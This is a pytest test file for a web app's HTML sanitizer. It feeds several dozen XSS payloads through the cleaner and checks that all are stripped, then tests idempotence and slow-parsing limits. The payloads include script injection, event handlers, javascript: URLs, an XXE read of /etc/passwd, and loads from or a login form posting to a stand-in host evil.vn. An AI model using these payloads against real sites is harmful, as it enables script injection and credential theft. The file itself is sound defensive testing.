import time
from html.parser import HTMLParser

import pytest

from parcai.lib import html

KEY = "0b9d6a3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.vn/x.js></sCrIpT>",
    "<script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x0c>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style><img src='</style><img src=x onerror=alert(1)//'></style>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>x</a></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com/embed/x'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=https://evil.vn/>",
    "<link rel=stylesheet href=https://evil.vn/x.css>",
    "<link rel=import href=https://evil.vn/x.html>",
    "<form action=https://evil.vn><input name=p><button>Đăng nhập</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x",
    "<frameset onload=alert(1)><frame></frameset>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=https://evil.vn></portal>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is=x-evil>x</p>",
]
HANDLERS = [
    f"<p {name}=alert(1)>x</p>"
    for name in (
        "onclick onerror onload onmouseover onfocus onblur onanimationstart ontransitionend onpointerdown onbeforeinput "
        "onauxclick oncopy onpaste onwheel ontoggle ONCLICK oNcLiCk on\x0aclick onfocusin onscroll onhashchange onmessage"
    ).split(" ")
]
LINKS = [
    f'<a href="{address}">x</a>'
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd",
        "blob:https://x.vn/1",
        "filesystem:https://x.vn/1",
        "view-source:https://x.vn",
        "about:blank",
        "ftp://x.vn/",
        "//evil.vn/x",
        "/\\evil.vn/x",
        "\\\\evil.vn\\x",
        "https:\\\\evil.vn",
        "jav%61script:alert(1)",
        "feed:javascript:alert(1)",
        "intent://x#Intent;scheme=javascript;end",
        "tel:0912\x00javascript:alert(1)",
        "javascript://x.vn/%0aalert(1)",
    )
]
IMAGES = [
    f"<img src={address} alt=x>"
    for address in (
        "x onerror=alert(1)",
        "javascript:alert(1)",
        "https://evil.vn/pixel.gif",
        "//evil.vn/pixel.gif",
        "data:image/png;base64,iVBORw0KGgo=",
        "/tep/anh/../../quan-tri/",
        "/media/secret.png",
        f"/tep/anh/{KEY}-480.webp?x=1",
        f"/tep/anh/{KEY}-480.webp#x",
        f"https://evil.vn/tep/anh/{KEY}-480.webp",
        f"/tep/anh/{KEY.upper()}.svg",
    )
]
ATTRIBUTES = [
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='button button--danger'>x</p>",
    "<p id=noi-dung-chinh>x</p>",
    "<a name=forms href=/x>x</a>",
    "<a href=/x target=_blank>x</a>",
    "<a href=/x ping=https://evil.vn>x</a>",
    "<a href=/x download>x</a>",
    "<p hx-get=/quan-tri/ hx-trigger=load>x</p>",
    "<p data-copy=x>x</p>",
    "<p v-html=x x-data=y @click=z :src=q>x</p>",
    "<p contenteditable autofocus tabindex=1 accesskey=x>x</p>",
    "<td background=javascript:alert(1)>x</td>",
    "<table background=javascript:alert(1)><tr><td width=expression(1)>x</table>",
    "<ol start=javascript:1><li>x</ol>",
    "<th scope='x onclick=1'>x</th>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<img srcset='https://evil.vn/x 1x'>",
    "<p slot=x part=y nonce=z>x</p>",
]
HOSTILE = SCRIPTS + HANDLERS + LINKS + IMAGES + ATTRIBUTES

HARMLESS = [
    "<p>Chào ông, bà.</p>",
    "<h2>Hồ sơ gồm những gì</h2>",
    "<h3>Bước 1</h3>",
    "<h4>Lưu ý</h4>",
    "<ul><li>Đơn</li><li>Bản sao</li></ul>",
    "<ol><li>Một</li><li>Hai</li></ol>",
    '<ol start="3"><li>Ba</li></ol>',
    "<p><strong>Đậm</strong> và <em>nghiêng</em></p>",
    "<p>H<sub>2</sub>O, m<sup>2</sup></p>",
    "<blockquote><p>Trích</p></blockquote>",
    "<table><thead><tr><th>Việc</th></tr></thead><tbody><tr><td>Khai sinh</td></tr></tbody></table>",
    '<table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>',
    "<table><caption>Bảng 1</caption><tbody><tr><td>x</td></tr></tbody></table>",
    '<p><a href="/hoi-dap/" rel="noopener noreferrer nofollow">Hỏi đáp</a></p>',
    '<p><a href="https://dichvucong.gov.vn" rel="noopener noreferrer nofollow">Cổng</a></p>',
    '<p><a href="mailto:a@vidu.vn" rel="noopener noreferrer nofollow">Thư</a></p>',
    '<p><a href="tel:0257000000" rel="noopener noreferrer nofollow">Gọi</a></p>',
    '<p><a href="#muc-1" rel="noopener noreferrer nofollow">Mục 1</a></p>',
    f'<figure><img src="/tep/anh/{KEY}-960.webp" alt="Quầy" width="960" height="540"><figcaption>Quầy</figcaption></figure>',
    "<p>Dòng một<br>Dòng hai</p>",
    "<hr>",
    "<p>5 &lt; 7 &amp; 7 &gt; 5</p>",
    "<p>“Dân hỏi – Thủ trưởng trả lời”</p>",
    '<p><abbr title="Thủ tục hành chính">TTHC</abbr></p>',
    "<p><u>Gạch chân</u> <s>bỏ</s></p>",
    "<pre><code>113/KH-UBND</code></pre>",
    "<dl><dt>Hạn</dt><dd>15 ngày</dd></dl>",
    "<p>Lệ phí: 8.000 đồng (85,39 %)</p>",
    "<p>😀 漢字</p>",
    "<p><q>trích ngắn</q> <cite>Nguồn</cite> <small>nhỏ</small></p>",
    "Chữ trần không thẻ",
    "",
]


class Judge(HTMLParser):
    """Reads what came out and collects everything that is not on the allow list."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attributes):
        if tag not in html.TAGS:
            self.wrong.append(tag)
        for name, value in attributes:
            allowed = html.ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            if name not in allowed:
                self.wrong.append((tag, name))
            if name == "href" and not (html.OWN_PAGE.fullmatch(value) or html.OUTSIDE.fullmatch(value)):
                self.wrong.append(value)
            if name == "src" and not html.OWN_IMAGE.fullmatch(value):
                self.wrong.append(value)

    def handle_comment(self, data):
        self.wrong.append("comment")


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives(payload):
    judge = Judge()
    judge.feed(html.clean(f"<p>trước</p>{payload}<p>sau</p>"))
    assert judge.wrong == []


@pytest.mark.parametrize("snippet", HARMLESS)
def test_harmless_text_survives_unchanged(snippet):
    assert html.clean(snippet) == snippet


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_cleaning_twice_changes_nothing(text):
    assert html.clean(html.clean(text)) == html.clean(text)


def test_script_text_does_not_stay_behind_as_words():
    assert html.clean("<p>a</p><script>alert('lừa')</script><style>p{}</style>") == "<p>a</p>"


def test_very_deep_text_becomes_plain_paragraphs():
    heavy = "<div>" * 20_000 + "<p>Chữ còn lại</p>" + "</div>" * 20_000
    assert html.is_too_heavy(heavy)
    assert html.clean(heavy) == "<p>Chữ còn lại</p>"
    assert html.clean("<b>" * 5_000 + "<script>x</script><i>y") == "<p>y</p>"


def test_very_long_text_is_cut():
    assert len(html.clean("<p>" + "a" * 500_000)) <= html.MAX_LENGTH + 20


def test_own_pictures_are_found():
    text = f'<p><img src="/tep/anh/{KEY}-960.webp" alt=""><img src="/tep/anh/{KEY}.webp" alt=""></p>'
    assert html.image_ids(text) == {KEY}


def test_plain_text_keeps_blocks_apart():
    assert html.plain_text("<h2>Một</h2><p>Hai<br>ba</p><ul><li>Bốn</li></ul>") == "Một\nHai\nba\nBốn"


def test_typed_text_becomes_paragraphs():
    assert html.text_to_html("Một\nhai\n\n<b>ba") == "<p>Một<br>hai</p><p>&lt;b&gt;ba</p>"


DEEP = [
    "<b></i>" * 28_000,
    "<x></y>" * 28_000,
    "<div><table><tr><td></div>" * 7_000,
    "<svg><x>" * 25_000,
    "".join(f"<p><b title={number}>x" for number in range(14_000)),
    "<p>" * 60 + "<blockquote>" * 1_000,
    "<![CDATA[" + "<b>" * 60_000 + "]]>",
]


@pytest.mark.parametrize("text", DEEP, ids=lambda text: text[:12])
def test_end_tags_that_end_nothing_do_not_hide_the_depth(text):
    began = time.perf_counter()
    assert html.is_too_heavy(text)
    html.clean(text)
    assert time.perf_counter() - began < 0.5


@pytest.mark.parametrize(
    "piece",
    [
        "<!--",
        "<a ",
        "<!",
        "<?",
        "</",
        '<a "',
        "<script>",
        '<p title="',
        "<abbr title='",
        "<p =",
        "&",
        "<svg></svg",
        "<title",
    ],
)
def test_no_text_keeps_the_reader_busy(piece):
    text = piece * (html.MAX_LENGTH // len(piece))
    began = time.perf_counter()

    html.plain_text(text)
    html.clean(text)

    assert time.perf_counter() - began < 1.5


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("<p>một" * 300, "<p>một</p>" * 300),
        ("<ul>" + "<li>một" * 300, "<ul>" + "<li>một</li>" * 300 + "</ul>"),
        ("<ul>" + "<li><p>một" * 300, "<ul>" + "<li><p>một</p></li>" * 300 + "</ul>"),
        (
            "<table>" + "<tr><td>một<td>hai" * 200,
            "<table><tbody>" + "<tr><td>một</td><td>hai</td></tr>" * 200 + "</tbody></table>",
        ),
        ("<dl>" + "<dt>một<dd>hai" * 200 + "</dl>", "<dl>" + "<dt>một</dt><dd>hai</dd>" * 200 + "</dl>"),
    ],
    ids=["p", "li", "li p", "table", "dl"],
)
def test_paragraphs_items_and_cells_left_open_follow_each_other(text, cleaned):
    assert not html.is_too_heavy(text)
    assert html.clean(text) == cleaned


def test_a_long_orderly_text_keeps_its_form():
    text = (
        "<table><tbody>" + "<tr><td>Việc</td><td><strong>Hạn</strong></td></tr>" * 2_000 + "</tbody></table>"
    )
    assert html.clean(text) == text


def test_words_of_neighbouring_blocks_are_never_glued_together():
    assert html.plain_text("<p>Một<p>Hai<ul><li>Ba<li>Bốn</ul>Năm") == "Một\nHai\nBa\nBốn\nNăm"
    assert html.plain_text("<table><tr><td>Một<td>Hai<tr><td>Ba") == "Một Hai\nBa"
    assert html.clean("<p>Một" + "<blockquote>Hai" * 300).startswith("<p>Một</p><p>Hai</p><p>Hai</p>")


def test_plain_text_reads_marks_as_marks_and_leaves_what_is_dropped():
    text = (
        "<p title='a > b'>5 &lt; 7 &amp; 8 < 9</p><script>if (a < b) {}</script><!-- ẩn --><style>p{}</style>"
    )
    assert html.plain_text(text) == "5 < 7 & 8 < 9"


def test_what_grows_over_the_limit_while_it_is_cleaned_stays_the_same_afterwards():
    text = "<p>a" * 40_000
    assert html.clean(html.clean(text)) == html.clean(text)
